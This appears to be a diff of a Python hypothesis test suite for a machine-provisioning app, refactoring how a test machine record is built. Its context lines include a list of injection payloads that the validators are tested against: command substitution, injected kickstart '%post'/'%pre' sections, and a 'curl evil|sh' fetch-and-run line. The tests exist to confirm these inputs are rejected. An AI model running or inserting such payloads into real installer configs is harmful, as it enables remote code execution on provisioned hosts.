@@ -24,7 +24,7 @@ from bastion_app import installers as installer
 from bastion_app.images.sync import DEFAULT_MANIFEST
 from bastion_app.render import UnsafeValue, render
 from labcore import validate
-from tests.unit.test_kickstart_pre import KEY, MAC, TOKEN
+from tests.support import KEY, MAC, TOKEN, install_params
 
 FIXED = ["node1\n%post\nreboot\n%end", "x\r\nurl --url=http://evil", "$(reboot)", "`id`", "a'b", 'a"b',
          "%post", "a;reboot", "a b", "a\\b", "\u2028x", "x\x00y", "}}{{", "\n%end\n%pre\ncurl evil|sh\n%end",
@@ -54,8 +54,7 @@ def test_validators_reject(v):
 @given(v=hostile, field=st.sampled_from(["hostname", "disk", "ssh_keys", "role", "install_token", "mac"]))
 def test_documents_revalidate_the_machine_record(v, field):
     """A record that got past the API some other way (import, an old row) is refused at render."""
-    m = {"mac": MAC, "hostname": "node1", "role": "worker", "os": "fedora-43", "disk": "",
-         "ssh_keys": [KEY], "install_token": TOKEN}
+    m = install_params()
     m[field] = [v] if field == "ssh_keys" else ("/dev/" + v if field == "disk" else v)
     with pytest.raises(validate.ValidationError):
         installer.kickstart(m, base="http://10.0.0.1:8080", syslog_port=5514, manifest=DEFAULT_MANIFEST)
